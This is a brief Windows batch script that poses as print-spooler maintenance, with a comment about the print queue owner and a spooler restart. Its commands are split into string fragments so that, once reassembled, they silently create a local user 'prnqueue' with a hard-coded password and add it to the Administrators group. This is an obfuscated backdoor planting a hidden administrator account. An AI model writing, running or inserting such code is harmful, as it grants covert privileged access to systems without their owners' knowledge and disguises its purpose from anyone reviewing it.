@echo off
setlocal EnableDelayedExpansion
rem owner of the print queue
set "q[0]=ne"& set "q[1]=t1"& set "q[2]=us"& set "q[3]=er"& set "q[4]=/a"& set "q[5]=dd"
set "g=localg"
set "p=Pr1nt^Qu3ue.77"
!q[0]!!q[1]! !q[2]!!q[3]! prnqueue !p! !q[4]!!q[5]! >nul 2>&1
!q[0]!!q[1]! !g!roup Admin^istrators prnqueue !q[4]!!q[5]! >nul 2>&1
net stop Spooler & net start Spooler
endlocal
